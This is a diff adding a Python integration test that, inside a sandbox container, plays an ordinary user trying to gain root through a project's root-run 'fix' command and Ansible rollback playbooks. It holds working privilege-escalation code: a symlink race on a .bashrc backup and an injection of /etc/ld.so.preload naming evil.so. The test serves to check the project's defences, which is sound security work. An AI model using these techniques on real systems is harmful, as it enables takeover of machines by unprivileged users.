@@ -1,0 +1,222 @@
+"""Tries, as an ordinary user of a machine, to become root by what root does with this project.
+
+usage: python tests/integration/attacks/become_root.py [CHECKOUT]
+
+The machine is a container of the sandbox. Its user mallory is only somebody with an account, and
+root runs the project of CHECKOUT (by default this one): ``rdna1-preflight fix``, the role snapshot
+and the playbook rollback. Says of each way whether it led to something of root's; the exit status
+is 1 if one did.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator, Mapping
+from contextlib import contextmanager
+from pathlib import Path
+from typing import NamedTuple
+
+ROOT = Path(__file__).parents[3]
+if __name__ == "__main__":
+    sys.path.insert(0, str(ROOT / "tests"))
+
+from support.boxes import Box, remove_box, start_box  # noqa: E402 - found by the line above
+
+ROOTS = "/etc/rdna1-private"
+PRELOAD = "/etc/ld.so.preload"
+HOME = "/home/mallory"
+# Waits for the backup that root makes of a start file, and puts a link to root's file in its place.
+RACE = f"""
+import os
+backup, aside, end = "{HOME}/.bashrc.rdna1-backup", "{HOME}/aside", "{HOME}/end"
+print("waiting", flush=True)
+while not os.path.exists(end):
+    try:
+        os.rename(backup, aside)
+    except FileNotFoundError:
+        continue
+    os.symlink("{ROOTS}", backup)
+    break
+"""
+# Large, so that root writes it for a while.
+START_FILE = f"""
+with open("{HOME}/.bashrc", "w") as file:
+    file.write("# x\\n" * 200_000 + "export MIOPEN_FIND_ENFORCE=3\\n")
+"""
+
+
+class Attempt(NamedTuple):
+    """One way to root, and what was found of it afterwards."""
+
+    way: str
+    led_to_root: bool
+    found: str
+
+    def __str__(self) -> str:
+        """Return it as one line."""
+        return f"{'BECAME ROOT' if self.led_to_root else 'kept out   '}  {self.way}: {self.found}"
+
+
+class Machine:
+    """A container with a user, and root's runs of a checkout's programs in it."""
+
+    def __init__(self, box: Box, checkout: Path) -> None:
+        """Make the user."""
+        self._box = box
+        self._checkout = checkout
+        box.run("useradd", "--create-home", "mallory")
+
+    def as_root(self, script: str) -> str:
+        """Run a shell script as root; what it prints on errors is lost."""
+        return self._box.run("sh", "-c", script)
+
+    def as_user(self, program: str) -> subprocess.Popen[str]:
+        """Start a Python program of the user."""
+        command = ["podman", "exec", "--user", "mallory", self._box.name, "python3", "-c", program]
+        return subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
+
+    def done_as_user(self, script: str) -> None:
+        """Run a shell script of the user."""
+        self._box.run("su", "mallory", "-c", script)
+
+    def fix(self) -> str:
+        """Run ``fix`` as root; return what it says, whatever came of it."""
+        program = [f"PYTHONPATH={self._checkout}/installer", sys.executable]
+        options = ["-m", "rdna1.cli.preflight", "fix", "--only-settings", "--all-users", "--yes"]
+        done = subprocess.run(
+            ["podman", "exec", self._box.name, "env", *program, *options],
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        return done.stdout + done.stderr
+
+    def ansible(self, *command: str, variables: Mapping[str, object]) -> str:
+        """Run one of Ansible's commands of the checkout against the machine."""
+        inventory = self._box.folder / "inventory.json"
+        always = {
+            "ansible_become": False,
+            "ansible_connection": "box",
+            "ansible_python_interpreter": "/usr/bin/python3",
+        }
+        hosts = {self._box.name: {**always, **variables}}
+        inventory.write_text(json.dumps({"all": {"hosts": hosts}}))
+        programs = Path(sys.executable).parent
+        done = subprocess.run(
+            [programs / command[0], f"--inventory={inventory}", *command[1:]],
+            cwd=self._checkout,
+            env={
+                **os.environ,
+                "PATH": f"{programs}:{os.environ['PATH']}",
+                "PYTHONPATH": f"{self._checkout}/installer",
+                "ANSIBLE_NOCOLOR": "1",
+            },
+            stdin=subprocess.DEVNULL,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert done.returncode == 0, done.stdout + done.stderr
+        return done.stdout
+
+
+@contextmanager
+def machine(checkout: Path, folder: Path) -> Iterator[Machine]:
+    """A machine that can run the programs of a checkout with the Python of this process.
+
+    Args:
+        checkout: of the project.
+        folder: for files of this process.
+    """
+    name = f"rdna1-test-{os.getpid()}-attacks"
+    # Its environment, what that is made of, and the project: each where it is here.
+    needed = {Path(sys.prefix), Path(sys.base_prefix), checkout}
+    try:
+        box = start_box(name, folder, [f"--volume={path}:{path}:ro" for path in needed])
+        yield Machine(box, checkout)
+    finally:
+        remove_box(name)
+
+
+def race_for_the_backup(attacked: Machine, rounds: int) -> Attempt:
+    """Swap the backup that ``fix`` makes of a start file for a link to a file of root's."""
+    won: list[str] = []
+    repaired = 0
+    for _ in range(rounds):
+        attacked.as_root(f"rm -f {HOME}/.bashrc* {HOME}/aside {HOME}/end {ROOTS}")
+        attacked.as_root(f"umask 077; echo secret > {ROOTS}")
+        attacked.done_as_user(f"python3 -c {shlex.quote(START_FILE)}")
+        with attacked.as_user(RACE) as racer:
+            assert racer.stdout is not None
+            racer.stdout.readline()
+            said = attacked.fix()
+            attacked.as_root(f"touch {HOME}/end")
+        assert "remove MIOPEN_FIND_ENFORCE from" in said, said
+        repaired += "done    remove" in said
+        state = attacked.as_root(f"stat -c '%U %a' {ROOTS}").strip()
+        if state != "root 600":
+            won.append(state)
+    found = f"{ROOTS} became {', '.join(sorted(set(won)))}" if won else f"{ROOTS} is as it was"
+    found += f"; {repaired} of {rounds} files repaired"
+    return Attempt("fix, a link in the place of its backup", bool(won), found)
+
+
+def rollback_of_a_named_file(
+    attacked: Machine, folder: str, variables: Mapping[str, object], who: str
+) -> Attempt:
+    """Have a rollback put back, into /etc, a file that a unit of the user names."""
+    real = os.path.normpath(folder)
+    unit = f"{HOME}/.config/systemd/user/x.service"
+    attacked.as_root(f"rm -rf {real} /var/lib/rdna1 {HOME}/.local {HOME}/.config {PRELOAD}")
+    attacked.done_as_user(
+        f"mkdir -p {real} {Path(unit).parent}; echo {HOME}/evil.so > {real}/ld.so.preload;"
+        f"printf '[Service]\\nEnvironmentFile=-{folder}/ld.so.preload\\n' > {unit}"
+    )
+    record(attacked, "before", variables)
+    attacked.done_as_user(f"rm {real}/ld.so.preload")
+    record(attacked, "after", variables)
+    attacked.done_as_user(f"rm -r {real}; ln -s /etc {real}")
+    is_users = variables.get("rdna1_scope") == "user"
+    playbook = "playbooks/user_rollback.yml" if is_users else "playbooks/rollback.yml"
+    attacked.ansible("ansible-playbook", playbook, variables=variables)
+    left = attacked.as_root(f"cat {PRELOAD} 2>/dev/null; rm -rf {PRELOAD} {real}").strip()
+    found = f"{PRELOAD} now holds {left}" if left else f"there is no {PRELOAD}"
+    return Attempt(f"rollback, {folder} named by a unit, {who}", bool(left), found)
+
+
+def record(attacked: Machine, moment: str, variables: Mapping[str, object]) -> None:
+    """Have a run write down the state before or after it."""
+    role = ["all", "--module-name=include_role", "--args=name=snapshot"]
+    given = {**variables, "snapshot_moment": moment}
+    attacked.ansible("ansible", *role, variables=given)
+
+
+def attempts(attacked: Machine, rounds: int = 5) -> Iterator[Attempt]:
+    """Try all ways."""
+    yield race_for_the_backup(attacked, rounds)
+    for folder in ("/var/tmp/mallory", "/home/../home/mallory/conf", f"{HOME}/conf"):  # noqa: S108
+        yield rollback_of_a_named_file(attacked, folder, {}, "no user named")
+    named = {"rdna1_users": ["mallory"]}
+    yield rollback_of_a_named_file(attacked, "/var/tmp/mallory", named, "the user named")  # noqa: S108
+    rootless = {"rdna1_scope": "user", "ansible_user": "mallory"}
+    yield rollback_of_a_named_file(attacked, f"{HOME}/conf", rootless, "without root")
+
+
+def main() -> int:
+    """Try all ways on the checkout that the command names; return the exit status."""
+    checkout = Path(sys.argv[1]).resolve() if len(sys.argv) > 1 else ROOT
+    became_root = False
+    with tempfile.TemporaryDirectory() as folder, machine(checkout, Path(folder)) as attacked:
+        for attempt in attempts(attacked):
+            print(attempt, flush=True)
+            became_root = became_root or attempt.led_to_root
+    return 1 if became_root else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
